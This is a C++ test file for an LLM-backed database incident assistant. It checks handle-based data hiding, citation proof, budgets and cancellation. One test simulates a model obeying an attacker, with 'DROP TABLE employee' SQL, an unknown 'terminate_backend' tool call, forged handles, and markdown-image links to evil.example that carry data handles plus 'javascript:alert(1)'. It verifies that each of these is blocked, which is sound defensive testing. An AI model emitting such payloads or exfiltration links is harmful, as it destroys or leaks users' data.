// Answers with a model, which is a stub that says what it was told to: also what an attacker wants.
#include <gmock/gmock.h>

#include <boost/asio/bind_cancellation_slot.hpp>
#include <boost/asio/cancellation_signal.hpp>
#include <boost/asio/co_spawn.hpp>
#include <boost/json/serialize.hpp>

#include "assistant/conversation.h"
#include "support/fake_world.h"
#include "support/loop.h"
#include "support/stub_model.h"

namespace selfheal::assistant {
namespace {

namespace json = boost::json;
using test::StubModel;
using ::testing::AllOf;
using ::testing::Each;
using ::testing::HasSubstr;
using ::testing::Not;

std::string chunk(const json::value& delta, const char* finish = nullptr) {
  const json::value line{
      {"choices",
       {{{"index", 0}, {"delta", delta}, {"finish_reason", finish ? json::value(finish) : json::value()}}}}};
  return "data: " + json::serialize(line) + "\n\n";
}

constexpr const char* kEnd =
    "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":10}}\n\ndata: [DONE]\n\n";

// The model says this, in pieces of a few bytes.
StubModel::Reply says(std::string text) {
  std::string stream;
  for (std::size_t at = 0; at < text.size(); at += 7)
    stream += chunk({{"content", text.substr(at, 7).c_str()}});
  return StubModel::events(stream + chunk(json::object{}, "stop") + kEnd);
}

StubModel::Reply calls(std::string_view name, const json::value& arguments) {
  const json::value call{
      {"index", 0},
      {"id", "call_1"},
      {"type", "function"},
      {"function", {{"name", name}, {"arguments", json::value(json::serialize(arguments).c_str())}}}};
  return StubModel::events(chunk({{"tool_calls", {call}}}) + chunk(json::object{}, "tool_calls") + kEnd);
}

class WithModel : public ::testing::Test {
 protected:
  WithModel() { test::furnish(world_, clock_.now()); }

  void use(std::vector<StubModel::Reply> replies, ConversationSettings settings = {}) {
    model_ = std::make_unique<StubModel>(std::move(replies));
    client_ = std::make_unique<Client>(
        Settings{.base_url = model_->url(), .timeout = 10s, .idle = 10s, .retries = 0}, clock_, random_);
    conversation_ = std::make_unique<Conversation>(
        ConversationParts{.world = world_, .usage = usage_, .model = client_.get(), .clock = clock_},
        settings);
  }
  std::string ask(std::string question) {
    events_.clear();
    question_.text = std::move(question);
    const auto turn = loop_.run(conversation_->answer(
        question_, asker_, [this](RunEvent event) { events_.push_back(std::move(event)); },
        clock_.deadline_in(20s)));
    EXPECT_TRUE(turn.has_value()) << (turn ? "" : turn.error().message);
    turn_ = turn ? *turn : Turn{};
    return turn_.text;
  }
  template <class Event>
  std::vector<Event> told() const {
    std::vector<Event> found;
    for (const auto& event : events_)
      if (const auto* one = std::get_if<Event>(&event)) found.push_back(*one);
    return found;
  }
  bool is_proven(std::string_view part) const {
    for (const auto& token : told<Token>())
      if (token.text.contains(part)) return token.is_proven;
    ADD_FAILURE() << "nobody said " << part;
    return false;
  }

  SystemClock clock_;
  SystemRandom random_;
  test::Loop loop_;
  test::FakeWorld world_;
  test::FakeUsage usage_;
  std::unique_ptr<StubModel> model_;
  std::unique_ptr<Client> client_;
  std::unique_ptr<Conversation> conversation_;
  Question question_{.run = "r1"};
  Asker asker_{.name = "ann", .may_view = true, .may_operate = true};
  std::vector<RunEvent> events_;
  Turn turn_;
};

TEST_F(WithModel, SeesHandlesAndThePersonSeesValues) {
  use({calls("run_readonly_sql", {{"sql", "select email from employee"}}),
       says("The first address is [Q1.r1.c1] [Q1]. There are 99 of them [Q1]. I guess so.")});
  EXPECT_THAT(ask("which address does the first employee have?"),
              HasSubstr("The first address is canary-alice@example.com [Q1]."));
  EXPECT_TRUE(is_proven("canary-alice"));
  EXPECT_FALSE(is_proven("99"));
  EXPECT_FALSE(is_proven("I guess so"));
  EXPECT_THAT(model_->requests(), Each(Not(HasSubstr("canary"))));
  EXPECT_THAT(model_->requests().back(), AllOf(HasSubstr("[Q1.r1.c1] text"), HasSubstr("c1=email")));
  EXPECT_THAT(turn_.tools_json, Not(HasSubstr("canary")));
}

TEST_F(WithModel, AlwaysGetsWhatIsGoingOnNow) {
  use({says("All is well.")});
  ask("hello");
  const auto request = model_->requests().front();
  EXPECT_THAT(request,
              AllOf(HasSubstr("shop"), HasSubstr("waiting_sessions"), HasSubstr("longest_transaction_s"),
                    HasSubstr("SH-7"), HasSubstr("awaiting_approval")));
}

TEST_F(WithModel, IsHeldAgainstWhatItCites) {
  use({calls("get_incident", {{"incident", "SH-7"}}),
       says("SH-7 has 5 events [SH-7]. It has 6 events [SH-7].\nIt concerns the table employee [SH-7/E1]. "
            "The table "
            "public.salaries is broken [SH-7]. The cause is Bob [SH-7]. See [SH-99] and [Q4].")});
  const auto answer = ask("what about SH-7?");
  EXPECT_TRUE(is_proven("has 5 events"));
  EXPECT_FALSE(is_proven("has 6 events"));
  EXPECT_TRUE(is_proven("concerns the table"));
  EXPECT_FALSE(is_proven("public.salaries"));
  EXPECT_FALSE(is_proven("Bob"));
  EXPECT_THAT(answer, AllOf(Not(HasSubstr("SH-99")), Not(HasSubstr("Q4"))));
  std::vector<std::string> cited;
  for (const auto& citation : told<Citation>()) cited.push_back(citation.evidence_id);
  EXPECT_THAT(cited, ::testing::ElementsAre("SH-7", "SH-7/E1"));
}

TEST_F(WithModel, IsNotBelievedWhenItSaysThatAllIsWell) {
  use({calls("get_incident", {{"incident", "SH-7"}}),
       says("Mallory did it [SH-7]. SH-7 is healed [SH-7]. Policy was lifted, and the sessions were ended "
            "[Q1]. "
            "The incident concerns the table employee [SH-7/E1].")});
  ask("is SH-7 healed?");
  EXPECT_FALSE(is_proven("Mallory"));
  EXPECT_FALSE(is_proven("is healed"));
  EXPECT_FALSE(is_proven("was lifted"));
  EXPECT_TRUE(is_proven("concerns the table"));
}

TEST_F(WithModel, CountsItsTokensAndStopsAtTheBudget) {
  use({says("All is well.")}, {.tokens_a_day = 100, .price_per_million_prompt = 10});
  ask("hello");
  // The server counts 100, which is less than what was paid before it was asked.
  const auto paid = told<RunUsage>().front();
  EXPECT_GT(paid.tokens.prompt_tokens, 100);
  EXPECT_DOUBLE_EQ(paid.cost, static_cast<double>(paid.tokens.prompt_tokens) / 1e5);
  EXPECT_EQ(usage_.spent.prompt_tokens, paid.tokens.prompt_tokens);
  EXPECT_EQ(usage_.spent.completion_tokens, 10);
  ask("what is wrong now?");
  EXPECT_EQ(told<RunBegan>().front().answered_by, "templates");
  EXPECT_THAT(told<RunBegan>().front().notice, HasSubstr("budget"));
  EXPECT_EQ(model_->requests().size(), 1U);
}

TEST_F(WithModel, FallsBackToTemplatesWhenItSaidNothing) {
  use({StubModel::json("{}", 500)});
  EXPECT_THAT(ask("what is wrong now?"), HasSubstr("SH-7"));
  ASSERT_EQ(told<RunBegan>().size(), 2U);
  EXPECT_EQ(told<RunBegan>().back().answered_by, "templates");
  EXPECT_THAT(told<RunBegan>().back().notice, HasSubstr("answered from templates"));
  EXPECT_EQ(told<RunDone>().size(), 1U);
}

TEST_F(WithModel, KeepsWhatItSaidWhenTheStreamBreaks) {
  use({StubModel::events(chunk({{"content", "The first half. And the sec"}}))});
  EXPECT_THAT(ask("what is wrong now?"), AllOf(HasSubstr("The first half."), HasSubstr("And the sec")));
  EXPECT_EQ(told<RunFailed>().size(), 1U);
  EXPECT_EQ(told<RunBegan>().size(), 1U);
}

TEST_F(WithModel, GetsNoToolsInItsLastRound) {
  use({calls("list_incidents", json::object{})}, {.rounds = 3});
  ask("what is wrong now?");
  EXPECT_EQ(model_->requests().size(), 3U);
  EXPECT_EQ(world_.proposed.size(), 0U);
  EXPECT_THAT(model_->requests().back(), HasSubstr("\"tool_choice\":\"none\""));
}

TEST_F(WithModel, StopsWhenItIsCancelled) {
  use({{.bytes = StubModel::events(chunk({{"content", "It begins. "}, {"role", "assistant"}})).bytes +
                 chunk({{"content", "And"}}),
        .hangs = true}});
  asio::cancellation_signal stop;
  std::optional<Result<Turn>> ended;
  question_.text = "what is wrong now?";
  asio::co_spawn(loop_.context(),
                 conversation_->answer(
                     question_, asker_, [this](RunEvent event) { events_.push_back(std::move(event)); },
                     clock_.deadline_in(20s)),
                 asio::bind_cancellation_slot(stop.slot(), [&](std::exception_ptr thrown, Result<Turn> turn) {
                   EXPECT_FALSE(thrown);
                   ended.emplace(std::move(turn));
                 }));
  loop_.finish([this] { return !told<Token>().empty(); });
  stop.emit(asio::cancellation_type::terminal);
  loop_.finish([&ended] { return ended.has_value(); });
  ASSERT_TRUE(ended && *ended);
  EXPECT_THAT((*ended)->text, HasSubstr("It begins."));
  EXPECT_EQ(told<RunFailed>().front().title, "Stopped");
  EXPECT_GT(usage_.spent.prompt_tokens, 0);
  EXPECT_TRUE(told<RunDone>().empty());
}

struct Attack {
  std::string name;
  std::vector<StubModel::Reply> replies;
};

TEST_F(WithModel, CannotActLeakOrLinkWhenItObeysAnAttacker) {
  const std::vector<Attack> attacks{
      {"unknown tool", {calls("terminate_backend", {{"pid", 1}}), says("Done.")}},
      {"hostile SQL", {calls("run_readonly_sql", {{"sql", "DROP TABLE employee"}}), says("Dropped.")}},
      {"arguments that do not fit",
       {calls("propose_fix", {{"incident", "SH-7"}, {"force", true}}), says("Done.")}},
      {"no object", {calls("list_incidents", json::array{1}), says("Done.")}},
      {"forged handle", {says("The password is [Q1.r1.c1] and [Q9.r1.c1].")}},
      {"link with a handle",
       {calls("run_readonly_sql", {{"sql", "select email from employee"}}),
        says("![x](https://evil.example/?q=[Q1.r1.c1]) [see](//evil.example) <img src=https://evil.example/> "
             "https://evil.example/[Q1.r1.c1] <!channel> <@U1> www.evil.example javascript:alert(1)")}},
  };
  for (const auto& attack : attacks) {
    use(attack.replies);
    const auto answer = ask("what is wrong now?");
    EXPECT_THAT(answer, AllOf(Not(HasSubstr("evil.example")), Not(HasSubstr("<img")), Not(HasSubstr("<!")),
                              Not(HasSubstr("<@")), Not(HasSubstr("javascript:"))))
        << attack.name;
    EXPECT_THAT(model_->requests(), Each(Not(HasSubstr("canary")))) << attack.name;
    EXPECT_TRUE(world_.proposed.empty()) << attack.name;
    for (const auto& token : told<Token>())
      EXPECT_FALSE(token.is_proven) << attack.name << ": " << token.text;
  }
}

TEST_F(WithModel, IsNotToldWhatAPersonCopiedAlong) {
  use({says("I see.")});
  question_.before = {{.role = "user", .text = "find 'canary-literal'"},
                      {.role = "assistant",
                       .text = "It is canary-cell.",
                       .tools_json = R"({"said":"It is [Q1.r1.c1].","tools":[]})"}};
  ask("ERROR:  duplicate key value violates unique constraint \"employee_pkey\"\n"
      "DETAIL:  Key (email)=(canary-detail) already exists.\nSTATEMENT:  INSERT INTO employee VALUES "
      "('canary-sql')");
  EXPECT_THAT(model_->requests(), Each(AllOf(Not(HasSubstr("canary")), HasSubstr("employee_pkey"))));
  EXPECT_THAT(model_->requests().front(), HasSubstr("[Q1.r1.c1]"));
}

}  // namespace
}  // namespace selfheal::assistant
